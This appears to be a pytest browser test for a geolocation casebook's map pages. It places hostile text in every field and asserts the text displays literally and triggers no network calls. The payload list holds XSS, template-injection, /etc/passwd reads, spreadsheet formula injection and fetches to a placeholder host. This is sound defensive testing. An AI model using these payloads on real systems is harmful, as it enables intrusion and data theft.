"""Hostile text in every place of our pages: shown letter for letter, and run nowhere.

The texts come from a small grammar of what templates, scripts, tags, styles, addresses, terminals
and text shapers act on. One text stands in all places of a page at once, each time with a number of
its own, so that none can stand in for another. The long run puts 500 texts into every place.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import geopandas as gpd
import pytest
import shapely
from pydantic import ValidationError
from test_maps_browser import Visit, visit, without_policy

from geoloc import maps
from geoloc.casebook import Book, Finding, Incident, investigate

if TYPE_CHECKING:
    from conftest import Oracle
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

RUN = "window.__pwned=1;fetch('http://ADDRESS/ran')"
ATOMS: dict[str, tuple[str, ...]] = {
    "template": (
        "{{ 7*7 }}",
        "{{ this.get_root() }}",
        "{% raid",
        "{%- raw -%}",
        "{# a note",
        "#}",
        "{{{{",
        "}}",
        "{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "<%= 7*7 %>",
        "#{7*7}",
        "@{x}",
        "[[7*7]]",
        "*{x}",
        "%(title)s",
        "{title}",
        "{0.__class__}",
        "$title",
        "${title}",
    ),
    "literal": (
        f"${{{RUN}}}",
        f"`${{{RUN}}}`",
        f"`;{RUN};`",
        f"';{RUN};//",
        f'";{RUN};//',
        f"\\';{RUN};//",
        "\\",
        "\\u0027",
        "\\x3c",
        "\n",
        "\r\n",
        "\u2028",
        "\u2029",
        "*/",
        "/*",
        "//",
        "<!--",
        "-->",
    ),
    "script": (
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"</SCRIPT ><ScRiPt>{RUN}//",
        "<!--<script>",
        "</style>",
        "</textarea>",
        "</title>",
        "</noscript>",
        "]]>",
        "<![CDATA[",
        f"<svg><script>{RUN}</script></svg>",
        "<script src=//ADDRESS/s></script>",
    ),
    "handler": (
        f'<img src=x onerror="{RUN}">',
        f'"><svg onload="{RUN}">',
        f"' onmouseover='{RUN}",
        f'" autofocus onfocus="{RUN}',
        f'<details open ontoggle="{RUN}">',
        f'<body onload="{RUN}">',
        f'<video><source onerror="{RUN}">',
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
        f"<input onfocus={RUN} autofocus>",
    ),
    "loading": (
        "<img src=http://ADDRESS/i>",
        "<iframe src=javascript:parent.__pwned=1></iframe>",
        f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
        "<link rel=stylesheet href=http://ADDRESS/c>",
        "<base href=http://ADDRESS/>",
        "<meta http-equiv=refresh content='0;url=http://ADDRESS/m'>",
        "<object data=//ADDRESS/o>",
        "<style>@import '//ADDRESS/c'</style>",
        "<p style='background:url(//ADDRESS/b)'>",
        "<form action=//ADDRESS><button>",
        "<a href=//ADDRESS ping=//ADDRESS>",
        "<embed src=//ADDRESS>",
    ),
    "address": (
        "http://ADDRESS/u",
        "//ADDRESS/u",
        f"javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "file:///etc/passwd",
        "\\\\ADDRESS\\share",
        "url(http://ADDRESS/u)",
        "@import '//ADDRESS'",
        "blob:http://ADDRESS/x",
        "vbscript:x",
        "%3Cscript%3E",
        '?a=<b>&c="d"#e',
    ),
    "entity": ("&lt;b&gt;", "&amp;amp;", "&#60;", "&#x3c;", "&colon;", "&", "&&", "&nbsp;", "&#0;"),
    "bidi": (
        "\u202eright to left\u202c",
        "\u2066\u2069",
        "\u200f",
        "\u200e",
        "\u061c",
        "\u202a",
        "\u2067x",
        "ناحیه ۲۲",
        "עברית",
        "a\u202eb",
        "\u200d\u200c",
        "\ufeff",
    ),
    "control": (
        "\x00",
        "\x01",
        "\x07",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1b[31m",
        "\x7f",
        "\x85",
        "\x9b31m",
        "\ufffe",
        "\uffff",
        "\ufffd",
        "\t",
        "\U000e0001",
        "\U0010ffff",
    ),
    "surrogate": ("\ud800", "\udc00x", "\udfff\ud800"),
    "combining": (
        "a" + "\u0301" * 60,
        "Z\u0351\u0352\u0353" * 20,
        "क्षि",
        "👩‍👩‍👧‍👦",
        "ﷺ",
        "\u0336" * 20,
        "🇦🇫",
    ),
    "long": (
        "long " * 300,
        "unbroken" * 150,
        "<" * 400,
        "{" * 300,
        "\\" * 300,
        "&" * 300,
        "`" * 300,
    ),
    "sheet": ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2", '=HYPERLINK("http://ADDRESS")'),
    "name": (
        "__proto__",
        "constructor",
        "toString",
        "null",
        "undefined",
        "NaN",
        "true",
        "[object]",
    ),
    "plain": (
        "Qal`a-e Wahid",
        "50 % of 3",
        'O\'Brien "x"',
        "a < b > c",
        "$100",
        "№ 5 #7",
        "x_y~z^",
    ),
}


def hostile(count: int) -> list[str]:
    """Return different texts: each atom alone, then sequences of what a file can hold."""
    pick = random.Random(7)  # noqa: S311 - the same texts in every run
    texts = dict.fromkeys(atom for atoms in ATOMS.values() for atom in atoms)
    writable = [kind for kind in ATOMS if kind != "surrogate"]
    while len(texts) < count:
        kinds = pick.choices(writable, k=pick.randint(2, 5))
        joined = pick.choice(("", " ", '"', "'", ">", "\n")).join(
            pick.choice(ATOMS[k]) for k in kinds
        )
        texts[joined[:4000]] = None
    every = [*texts]
    return every if count >= len(every) else every[:: len(every) // count][:count]


class Placed:
    """Gives texts in turn, again and again, each time with another number before or behind it."""

    def __init__(self, *texts: str) -> None:
        self.texts, self.given = texts, list[str]()

    def __call__(self) -> str:
        """Return a text for the next place."""
        count = len(self.given) + 1
        text = self.texts[count % len(self.texts)]
        self.given.append(f"{text}[{count}]" if count % 2 else f"[{count}]{text}")
        return self.given[-1]


def clues(words: Placed) -> list[dict[str, Any]]:
    """Return a clue of each kind that is named in words."""

    def landmark(lon: float, lat: float) -> dict[str, Any]:
        return {"name": words(), "lon": lon, "lat": lat, "sigma_m": 100}

    ring = [[69.2, 34.45], [69.4, 34.45], [69.4, 34.6], [69.2, 34.6]]
    return [
        {"kind": "near", "landmark": landmark(69.25, 34.5), "at_most_m": 9000},
        {"kind": "bearing", "landmark": landmark(69.3, 34.6), "azimuth_deg": 10},
        {"kind": "between", "a": landmark(69.2, 34.5), "b": landmark(69.3, 34.5)},
        {"kind": "along", "line": [[69.2, 34.4], [69.3, 34.6]], "at_most_m": 9000, "name": words()},
        {"kind": "drawn", "polygon": ring, "name": words()},
        {"kind": "searched", "polygon": ring[:3], "detection_probability": 0.5, "name": words()},
    ]


def finding(words: Placed) -> Finding:
    """Return a finding that says the text in every place."""
    claim = {"claimant": words(), "affiliation": words(), "place": words(), "says": words()}
    loose = {"claimant": words(), "affiliation": words(), "place": words(), "says": words()}
    found = {"finding": words(), "by": words(), "status": "likely"}
    found |= {"origin": f"seen in {words()}"}  # else it would be the claimant's own words
    source = {"id": words(), "title": words(), "publisher": words(), "note": words()}
    url = f"http://x/{words()}"[:2000]
    return investigate(
        Incident.model_validate(
            {
                "id": "2023-05-08-hostile",
                "title": words(),
                "date": "2023-05-08",
                "time": words(),
                "date_note": words(),
                "summary": words(),
                "claims": [
                    claim | {"codes": ["AF0104"], "source": source["id"]},
                    loose | {"role": "rival"},
                ],
                "evidence": [found | {"within": ["AF0104"], "clues": clues(words)}],
                "geolocation": {"status": "approximate", "reason": words()},
                "sources": [source | {"url": url}],
                "notes": [words()],
            }
        )
    )


def book(words: Placed) -> Book:
    """Return a casebook's facts that say the text in every place."""
    fact = {"fact": words(), "claimed": 1, "claimed_by": words(), "recorded": [words()]}
    return Book.model_validate(
        {
            "title": words(),
            "aggregates": [
                fact | {"recorded_by": words(), "confirmed": 0, "confirmed_by": words()}
            ],
            "sources": [{"id": "x", "title": words(), "publisher": words(), "note": words()}],
        }
    )


def table(words: Placed) -> gpd.GeoDataFrame:
    """Return a table whose columns and cells are the text."""
    return gpd.GeoDataFrame(
        {words(): [words()], "name": [words()]},
        geometry=[shapely.Point(69.2, 34.5)],
        crs="EPSG:4326",
    )


# A source is cited by its place in the list, and the affiliation of nobody is not shown.
UNSHOWN = {"id", "source"}


def texts_in(value: Any) -> Iterator[str]:
    """Yield every text of a record that its page shows."""
    if isinstance(value, dict):
        for key, part in value.items():
            if key not in UNSHOWN:
                yield from texts_in(part)
    elif isinstance(value, list):
        for part in value:
            yield from texts_in(part)
    elif isinstance(value, str):
        yield value


def pages(*texts: str) -> Iterator[tuple[str, list[str]]]:
    """Yield each kind of page with the texts in all its places, and what it must show."""
    one, facts = finding(Placed(*texts)), book(Placed(*texts))
    shown = [own for own in texts_in(one.incident.model_dump(mode="json")) if "[" in own]
    yield maps.seal(maps.finding_map(one, exact=True)), shown
    shown = [own for own in texts_in(facts.model_dump(mode="json")) if "[" in own]
    yield maps.seal(maps.casebook_map([one], facts)), [*shown, one.incident.title]
    listed = (one.incident.title, str(one.incident.claims[1].place))
    yield maps.index_page([one], facts), [as_html(own) for own in listed]
    words = Placed(*texts)
    rows = table(words)
    made = maps.features_map(rows, title=words(), credit=words())
    yield maps.seal(made), words.given[-2:]


def as_html(text: str) -> str:
    """Return what HTML keeps of a text: no null, and one kind of line end.

    The list of incidents is HTML; on maps, text travels as JSON, which keeps all.
    """
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "")


@contextmanager
def reading(chromium: Browser, folder: Path) -> Iterator[Visit]:
    """Open one browser page that reads many files."""
    with visit(chromium, folder, "<!DOCTYPE html><title>begin</title>") as seen:
        yield seen


def read(seen: Visit, file: Path, page: str, shown: list[str]) -> None:
    """Open a page, and assert that it shows these texts and does nothing else."""
    file.write_bytes(page.encode())
    seen.page.goto(file.as_uri())
    body = "document.querySelector('main').textContent + document.title"
    held = str(seen.page.evaluate(body))
    lost = [text for text in shown if text not in held]
    assert lost == [], file.name
    seen.page.wait_for_timeout(30)
    seen.check()


def place(
    chromium: Browser, oracle: Oracle, folder: Path, batches: Iterable[tuple[str, ...]]
) -> int:
    """Put the texts of each batch in turn into every place, with and without the policy.

    Returns how often a text was placed.
    """
    placed = 0
    with reading(chromium, folder) as seen:
        for batch in batches:
            made = pages(*(text.replace("ADDRESS", oracle.address) for text in batch))
            for page, shown in made:
                for sealed in (page, without_policy(page)):
                    read(seen, folder / "read.html", sealed, shown)
                    placed += len(shown)
    assert oracle.calls == []
    return placed


def test_hostile_text_is_shown_and_runs_nowhere(
    chromium: Browser, oracle: Oracle, tmp_path: Path
) -> None:
    """Every atom of the grammar, in few long texts, in every place of every page."""
    texts = [""]
    for atom in (atom for kind, atoms in ATOMS.items() if kind != "surrogate" for atom in atoms):
        if len(texts[-1]) + len(atom) > 2400:
            texts.append("")
        texts[-1] += f"{atom} "

    assert place(chromium, oracle, tmp_path, [(text,) for text in texts]) > 80 * len(texts)


@pytest.mark.long
def test_500_hostile_texts_are_shown_and_run_nowhere(
    chromium: Browser, oracle: Oracle, tmp_path: Path
) -> None:
    """Four at a time: more than 10,000 placements, half of them without the policy."""
    texts = [text for text in hostile(503) if not any("\ud800" <= at <= "\udfff" for at in text)]

    placed = place(
        chromium, oracle, tmp_path, [tuple(texts[at : at + 4]) for at in range(0, len(texts), 4)]
    )

    print(f"{placed:,} placements of {len(texts)} texts")
    assert len(texts) == 500
    assert placed > 10_000


def test_text_that_is_no_unicode_is_refused_by_the_case_file() -> None:
    """A lone surrogate cannot be written into any file, and the error says where it is."""
    with pytest.raises(ValidationError, match="unicode"):
        finding(Placed("\ud800"))


def test_texts_are_different_and_of_every_kind() -> None:
    """500 of them, each kind in some, and the same in every run."""
    texts = hostile(500)

    assert len(set(texts)) == 500
    assert texts == hostile(500)
    for kind, atoms in ATOMS.items():
        assert any(atom in text for atom in atoms for text in texts), kind
    assert json.dumps(texts)
